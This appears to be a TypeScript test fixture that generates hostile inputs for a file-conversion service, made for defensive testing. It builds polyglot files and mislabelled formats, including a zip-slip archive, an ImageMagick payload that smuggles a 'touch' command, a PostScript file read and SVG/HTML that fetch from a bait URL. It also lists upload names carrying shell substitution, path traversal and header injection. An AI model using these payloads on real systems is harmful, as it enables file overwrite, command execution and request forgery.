/** Files that are two things at once, and names that break systems. */
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import sharp from 'sharp'
import { docx } from '../fixtures/office.ts'
import { gifOf } from '../gif.ts'
import { zipOf } from '../hostile-archives.ts'
import { rtf } from '../office-files.ts'
import { onePagePdf } from '../pdf.ts'
import { type Attack, attacksOn, type Bait, canary, join8 } from './attack.ts'

const jpeg = () =>
  sharp({ create: { width: 16, height: 16, channels: 3, background: '#274' } })
    .jpeg()
    .toBuffer()
const png = () =>
  sharp({ create: { width: 16, height: 16, channels: 3, background: '#274' } })
    .png()
    .toBuffer()
const gif = () => gifOf(4, 4, [{ x: 0, y: 0, width: 4, height: 4, colour: 1, dispose: 0 }])
const archive = (bait: Bait) =>
  zipOf([{ name: `../../../..${canary(bait, 'txt')}`, data: Buffer.from('overwritten') }])
const svg = (bait: Bait) =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><image href="file://${canary(bait, 'png')}" width="9" height="9"/><image href="${bait.url}/x.png" width="9" height="9"/></svg>`
const html = (bait: Bait) =>
  `<html><img src="${bait.url}/x.png"><script src="${bait.url}/x.js"></script></html>`
const font = () => readFileSync(join(import.meta.dirname, '../../resources/fonts/Cousine-Regular.ttf'))

const polyglots: Attack[] = [
  ...attacksOn('gif', {
    'a GIF with an archive behind it': bait => join8(gif(), archive(bait)),
    'a GIF whose comment is a script': bait =>
      join8(gif().subarray(0, -1), '!\xfe', Buffer.from([200]), html(bait).padEnd(200).slice(0, 200), '\0;'),
  }),
  ...attacksOn('jpg', {
    'a JPEG with SVG behind it': async bait => join8(await jpeg(), svg(bait)),
    'a JPEG with an archive behind it': async bait => join8(await jpeg(), archive(bait)),
    'SVG under its name': bait => svg(bait),
    'a PDF under its name': () => onePagePdf('BT ET'),
    'a playlist under its name': bait => `#EXTM3U\n#EXTINF:1,\n${bait.url}/x.ts\n`,
    'instructions for ImageMagick under its name': bait =>
      `push graphic-context\nviewbox 0 0 640 480\nfill 'url(${bait.url}/x.jpg"|touch "${canary(bait, 'txt')})'\nimage over 0,0 0,0 'ephemeral:${canary(bait, 'png')}'\npop graphic-context`,
    'PostScript under its name': bait =>
      `%!PS\n(${canary(bait, 'txt')}) (r) file 100 string readstring pop == quit`,
  }),
  ...attacksOn('png', {
    'a PNG with a page behind it': async bait => join8(await png(), html(bait)),
    'a PNG with a PDF behind it': async () => join8(await png(), onePagePdf('BT ET')),
    'a page under its name': html,
  }),
  ...attacksOn('svg', {
    'a page under its name': html,
    'a playlist under its name': bait => `#EXTM3U\n${bait.url}/x.ts`,
    'an archive under its name': archive,
  }),
  ...attacksOn('pdf', {
    'a PDF with an archive behind it': bait => join8(onePagePdf('BT ET'), archive(bait)),
    'a GIF with a PDF in it': () =>
      join8(gif().subarray(0, -1), '!\xfe\x05', '%PDF-', '\0;', onePagePdf('BT ET')),
    'a page with a PDF behind it': bait => join8(html(bait), onePagePdf('BT ET')),
  }),
  ...attacksOn('docx', {
    'a GIF before a document': () => join8(gif(), docx({ paragraphs: ['text'] })),
    'an archive that is only called so': archive,
  }),
  ...attacksOn('rtf', { 'rich text with an archive behind it': bait => join8(rtf(['text']), archive(bait)) }),
  ...attacksOn('zip', {
    'a program before an archive': bait => join8('MZ', Buffer.alloc(4094), archive(bait)),
    'a picture before an archive': bait => join8(gif(), archive(bait)),
    'a document under its name': () => docx({ paragraphs: ['text'] }),
  }),
  ...attacksOn('ttf', {
    'a font with an archive behind it': bait => join8(font(), archive(bait)),
    'a page under its name': html,
  }),
  ...attacksOn(
    'mp3',
    { 'a page under its name': html, 'an archive under its name': archive },
    { targets: ['wav'] },
  ),
  ...attacksOn('mp4', { 'a page under its name': html, 'SVG under its name': svg }, { targets: ['mp3'] }),
  ...attacksOn('epub', { 'an archive that is only called so': archive, 'a page under its name': html }),
]

/** Names as a caller may send them; the picture itself is harmless. */
const names: Record<string, string> = {
  'folders above': '../../../../../../tmp/refile-evil.png',
  'folders above, in Windows': '..\\..\\..\\evil.png',
  'an absolute path': '/etc/refile-evil.png',
  'a drive': 'C:\\Windows\\evil.png',
  'a share': '\\\\127.0.0.1\\share\\evil.png',
  'a device of Windows': 'CON.png',
  'a device of Windows with a stream': 'nul:stream.png',
  'a device of Windows with a digit': 'COM¹.png',
  'a reversed suffix': 'photo\u202egnp.exe.png',
  'letters without width': 'a\u200b\u2066\u2069\ufeff.png',
  'lines and escapes': 'a\nb\r\nc\u001b[2J\u0007.png',
  'a zero': 'a\0b.png',
  'quotes and header fields': 'a"; filename="b.exe\r\nX-Evil: 1.png',
  'three hundred letters': `${'x'.repeat(300)}.png`,
  'letters of four bytes each': `${'😀'.repeat(100)}.png`,
  'marks upon marks': `a${'\u0301'.repeat(300)}.png`,
  'only dots': '...png',
  'only a suffix': '.png',
  'spaces and dots at its end': 'a. . .png',
  'commands for a shell': '$(touch x)`id`;|&.png',
  'options for a program': '-o--output=x.png',
  'encoded folders': '..%2f..%2fevil.png',
  'a template of ours': '{name}{index}%d%s.png',
  'half of a pair of surrogates': 'a\ud800b.png',
}
const named: Attack[] = Object.entries(names).map(([name, fileName]) => ({
  name: `named with ${name}`,
  source: 'png',
  fileName,
  bytes: png,
  targets: ['jpg', 'webp'],
}))

export const nameAttacks: Attack[] = [...polyglots, ...named]
